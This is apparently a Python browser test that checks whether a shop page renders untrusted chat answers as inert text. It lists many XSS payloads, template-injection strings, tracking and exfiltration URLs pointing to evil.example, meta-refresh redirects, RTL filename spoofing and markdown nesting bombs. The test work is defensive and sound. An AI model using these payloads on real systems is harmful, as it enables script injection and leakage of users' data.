"""Answers as strangers bring them, in a real browser: beside those of test_hostile.py."""

from __future__ import annotations

from test_hostile import run

SAID = (
    "Orders <svg/onload=alert(1)> within",
    "[two](javascript&colon;alert(1)) [x](java&#x09;script:alert(1)) [y](\x01javascript:alert(1))",
    "![](https://evil.example/p?d=`x`) ![a][b]\n\n[b]: https://evil.example 'x'",
    "<https://evil.example/a> www.evil.example evil.example mailto:evil@evil.example tel:+819012345678",
    "[call](tel:0990555666) [mail](mailto:evil@evil.example?body=card) [sms](sms:0990?body=x)",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= alert(1) %>",
    '<template shadowrootmode="open"><script>alert(1)</script></template><x-y onclick=alert(1)>z</x-y>',
    "<scr<script>ipt>alert(1)</scr</script>ipt> <img/src=//evil.example/x/onerror=alert(1)>",
    "$\\href{https://evil.example}{x}$ \\(\\includegraphics{https://evil.example/x}\\)",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \u202egnp.exe\u202c \u2067x\u2069",
    "| a | b |\n|---|---|\n| ![x](//evil.example/1) | <img src=//evil.example/2> |",
    "[^1] and more\n\n[^1]: https://evil.example/footnote <iframe src=//evil.example>",
    "<a href='https://shop.example.jp@evil.example/' download ping=//evil.example>x</a>",
    "```html\n<script src=//evil.example></script>\n``` ~~~\n<img src=//evil.example>\n~~~",
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>y</marquee>",
    "[[evil.example]] [x]<https://evil.example> (https://evil.example) “https://evil.example”",
    "<link rel=dns-prefetch href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "[" * 2000 + "x" + "](https://evil.example)" * 2000,
    "> " * 500 + "x\n" + "- " * 500 + "y",
    "**" * 3000 + "x" + "_" * 3000 + "`" * 3001,
)


def test_answers_of_strangers_stay_words(counter, shop, open_page):
    run(counter, shop, open_page, [[text[: len(text) // 3], text[len(text) // 3 :]] for text in SAID])
